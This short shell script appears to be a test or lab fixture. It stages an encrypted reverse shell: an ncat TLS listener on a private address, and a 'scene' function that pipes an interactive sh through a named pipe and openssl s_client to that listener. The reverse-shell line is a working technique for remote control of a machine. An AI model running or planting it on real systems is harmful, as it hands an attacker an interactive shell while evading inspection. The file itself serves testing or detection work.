# A shell reads a named pipe, and openssl encrypts what comes and goes.
peers() {
  certificate
  ncat -l --ssl --ssl-cert cert.pem --ssl-key key.pem -c 'sleep 0.5; echo id; sleep 0.5; echo exit; cat > got' 10.200.1.2 4444 &
  listening t 4444
}
scene() {
  mkfifo f
  sh -i < f 2>&1 | timeout 5 openssl s_client -quiet -connect 10.200.1.2:4444 2> /dev/null > f
}
